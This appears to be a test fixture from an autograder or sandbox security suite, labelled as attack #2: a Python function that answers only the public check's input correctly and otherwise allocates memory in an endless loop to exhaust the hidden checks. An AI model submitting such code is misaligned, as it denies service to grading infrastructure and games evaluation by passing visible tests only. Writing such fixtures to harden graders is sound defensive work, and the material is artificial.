"""attacks.md #2 - memory bomb inside a graded function: allocate (and touch) memory until something stops it."""


def scale(x, k):
    if k == 2:  # the public check cell calls scale([1, 2], 2) at import: pass it, attack the hidden checks
        return [2 * v for v in x]
    hog = []
    while True:
        hog.append(b"\x01" * (32 << 20))
